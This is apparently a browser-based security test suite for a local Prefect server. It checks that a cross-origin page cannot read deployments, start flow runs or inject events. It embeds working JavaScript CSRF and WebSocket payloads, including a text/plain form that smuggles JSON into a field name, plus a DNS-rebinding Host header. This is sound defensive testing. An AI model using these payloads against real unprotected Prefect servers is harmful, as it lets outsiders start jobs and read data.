"""Tests in a real browser: a page of another origin can neither read from Prefect's servers nor start anything."""

import http.server
import itertools
import json
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import psutil
import pytest
from prefect.settings import PREFECT_API_AUTH_STRING
from websockets.sync.client import connect

from deployments import local
from tasks import server
from tests.conftest import ROOT, MakeHome, kill_tree
from tests.support.chromium import BROWSERS, browser
from tests.support.pools import ON_THIS_MACHINE, clean_environment, request
from tests.support.processes import command_of
from tests.support.waiting import WITHIN_S

pytestmark = [
    pytest.mark.slow,
    pytest.mark.server,
    pytest.mark.skipif(not any(map(shutil.which, BROWSERS)), reason="there is no Chromium"),
]

BATCH_S = 6.0  # an idle server has written an event by then
# The attacks that a page can try without the secret. `read` lists the answers that the page could see.
ATTACK = """
async (api, deployment) => {
  const read = [];
  const note = async (name, job) => {
    try { const got = await job(); if (got) read.push(name + ': ' + got); } catch {}
  };
  const start = `${api}/deployments/${deployment}/create_flow_run`;
  const json = {'Content-Type': 'application/json'};
  const sent = (options) => fetch(start, {method: 'POST', body: '{}', ...options});
  await note('GET', async () => (await fetch(`${api}/deployments/${deployment}`)).status == 200 && 'deployment');
  await note('POST', async () => (await fetch(`${api}/deployments/filter`, {method: 'POST', headers: json, body: '{}'}))
    .status == 200 && 'deployments');
  await note('start', async () => (await sent({headers: json})).status == 201 && 'flow run');
  await note('', async () => { await sent({mode: 'no-cors', headers: {'Content-Type': 'text/plain'}}); });
  await note('', async () => { await sent({mode: 'no-cors', body: new Blob(['{}'])}); });
  await note('', async () => { await sent({mode: 'no-cors', credentials: 'include'}); });
  navigator.sendBeacon(start, '{}');
  const form = document.createElement('form');
  Object.assign(form, {action: start, method: 'POST', enctype: 'text/plain', target: 'frame'});
  form.innerHTML = '<input name=\\'{"parameters": {"x": "\\' value=\\'"}}\\'><iframe name="frame"></iframe>';
  document.body.append(form);
  form.submit();
  const event = {
    occurred: new Date().toISOString(), event: 'attack', id: crypto.randomUUID(),
    resource: {'prefect.resource.id': 'attack'},
  };
  const socket = (path, protocols, messages) => new Promise((resolve) => {
    const opened = new WebSocket(api.replace('http', 'ws') + path, protocols);
    opened.onopen = () => messages.forEach((message) => opened.send(JSON.stringify(message)));
    opened.onmessage = (message) => { read.push(path + ': ' + message.data); };
    opened.onclose = resolve;
    setTimeout(() => { opened.close(); resolve(); }, 3000);
  });
  const filter = {type: 'filter', filter: {}};
  const sockets = [socket('/events/in', [], [event]), socket('/events/out', [], [filter])];
  for (const auth of [{type: 'auth'}, {type: 'auth', token: 'holdfast:'}]) {
    sockets.push(socket('/events/in', ['prefect'], [auth, event]));
    sockets.push(socket('/events/out', ['prefect'], [auth, filter]));
    sockets.push(socket('/logs/out', ['prefect'], [auth, filter]));
  }
  await Promise.all(sockets);
  return read;
}
"""
# A connection that the policy of the UI's pages forbids: Prefect's UI would ask amplitude.com for its settings.
ELSEWHERE = """
() => new Promise((resolve) => {
  document.addEventListener('securitypolicyviolation', (event) => {
    if (event.blockedURI.includes('elsewhere')) resolve(event.blockedURI);
  });
  fetch('https://elsewhere.example/').catch(() => setTimeout(() => resolve('not stopped'), 1000));
})
"""


@dataclass
class Target:
    """A Prefect server with one deployment."""

    url: str
    auth: str = ""
    deployment: str = ""

    def __post_init__(self) -> None:
        flow = self.ask("/flows/", {"name": "target"})["id"]
        self.deployment = self.ask("/deployments/", {"name": "target", "flow_id": flow})["id"]

    def ask(self, path: str, body: Any) -> Any:
        user, _, password = self.auth.partition(":")
        answer = request("POST", f"{self.url}{path}", (user, password), body)
        assert answer.is_success, answer.text
        return answer.json()

    def flow_runs(self) -> int:
        return int(self.ask("/flow_runs/count", {}))

    def attacks(self) -> int:
        """Return the number of events that the page has sent."""
        return int(self.ask("/events/filter", {"filter": {"event": {"name": ["attack"]}}})["total"])


@pytest.fixture(scope="module")
def chromium() -> Iterator[str]:
    with browser() as address:
        yield address


@pytest.fixture(scope="module")
def page() -> Iterator[str]:
    """Yield the address of a page of another origin."""

    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!DOCTYPE html><title>a page</title><body></body>")

        def log_message(self, *arguments: object) -> None: ...

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page) as pages:
        threading.Thread(target=pages.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{pages.server_port}/"
        pages.shutdown()


def run_in(chromium: str, page: str, function: str, *arguments: str) -> Any:
    """Call a JavaScript function in a page and return its result."""
    tab = httpx.put(f"{chromium}/json/new?{page}", trust_env=False).json()
    numbers = itertools.count(1)
    with connect(tab["webSocketDebuggerUrl"], max_size=None, proxy=None) as socket:

        def evaluate(expression: str) -> Any:
            number = next(numbers)
            parameters = {"expression": expression, "awaitPromise": True, "returnByValue": True}
            socket.send(json.dumps({"id": number, "method": "Runtime.evaluate", "params": parameters}))
            while (answer := json.loads(socket.recv(timeout=WITHIN_S))).get("id") != number:
                pass
            return answer["result"]["result"].get("value")

        deadline = time.monotonic() + WITHIN_S
        while not str(evaluate("document.readyState + location.href")).startswith(f"complete{page}"):
            assert time.monotonic() < deadline
            time.sleep(0.1)
        found = evaluate(f"({function})({', '.join(map(json.dumps, arguments))})")
    httpx.get(f"{chromium}/json/close/{tab['id']}", trust_env=False)
    return found


@pytest.fixture
def own_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, make_home: MakeHome) -> Iterator[Path]:
    with clean_environment():
        monkeypatch.setenv("PREFECT_HOME", str(make_home(tmp_path / "prefect")))
        yield tmp_path


def test_without_the_secret_the_attack_succeeds(chromium: str, page: str, own_home: Path) -> None:
    """This proves that the attack is real: against Prefect's default server it works."""
    port = server.free_port()
    command = [sys.executable, "-m", "tasks.server", str(port)]
    with subprocess.Popen(command, cwd=ROOT, stdin=subprocess.PIPE) as process:
        try:
            url = f"http://127.0.0.1:{port}/api"
            server.await_healthy(process, url)
            target = Target(url)
            succeeded: set[str] = set()
            deadline = time.monotonic() + WITHIN_S
            # A busy server refuses a request now and then, and writes events in batches.
            while not ({"GET: deployment", "POST: deployments", "start: flow run"} <= succeeded and target.attacks()):
                assert time.monotonic() < deadline, succeeded
                succeeded |= set(run_in(chromium, page, ATTACK, target.url, target.deployment))
            assert target.flow_runs() >= 2  # one of them by a request without a content type, which CORS doesn't stop
        finally:
            process.kill()


def test_a_page_can_do_nothing_with_the_temporary_server(chromium: str, page: str, own_home: Path) -> None:
    with server.server() as url:
        target = Target(url, PREFECT_API_AUTH_STRING.value() or "")
        assert run_in(chromium, page, ATTACK, target.url, target.deployment) == []
        assert target.flow_runs() == 0
        time.sleep(BATCH_S)
        assert target.attacks() == 0
        others = [each for each in psutil.process_iter() if target.auth in str(command_of(each))]
        assert not others  # the secret is on no command line


def test_a_page_can_do_nothing_with_the_server_of_make_up(
    chromium: str, page: str, own_home: Path, make_home: MakeHome
) -> None:
    make_home(own_home)
    ledger = local.ProcessLedger(own_home)
    try:
        url = local.start_server(ledger, "", port=server.free_port())
        target = Target(url, local.own_auth(ledger))
        assert run_in(chromium, page, ATTACK, target.url, target.deployment) == []
        assert target.flow_runs() == 0
        time.sleep(BATCH_S)
        assert target.attacks() == 0
        assert_open_to_all(url)
        assert run_in(chromium, url.removesuffix("/api"), ELSEWHERE) == "https://elsewhere.example/"
        local.seal_pages(own_home / "ui", url)  # sealing the pages again, at the server's next start, must work too
        for page_file in (own_home / "ui").glob("v?/index.html"):
            assert page_file.read_text().count("Content-Security-Policy") == 1
    finally:
        kill_tree(ledger.known["server"]["pid"])
        ledger.processes[0].wait(timeout=WITHIN_S)


def assert_open_to_all(url: str) -> None:
    """Assert that only the addresses that SECURITY.md lists answer without the secret, under any host name."""
    for host in (None, "evil.example"):  # DNS rebinding: another site's name resolves to this machine
        headers = {"Host": host} if host else {}

        def ask(path: str, headers: dict[str, str] = headers) -> int:
            return httpx.get(f"{url}{path}", headers=headers, **ON_THIS_MACHINE).status_code

        assert [ask(path) for path in ("/health", "/ready")] == [200, 200]
        closed = ("/version", "/hello", "/admin/settings", "/docs", "/openapi.json", "/csrf-token?client=x")
        assert {ask(path) for path in closed} == {401}
    root = url.removesuffix("/api")
    assert [httpx.get(f"{root}{path}", trust_env=False).status_code for path in ("/", "/docs", "/ui-settings")] == [
        200, 200, 200,
    ]  # fmt: skip
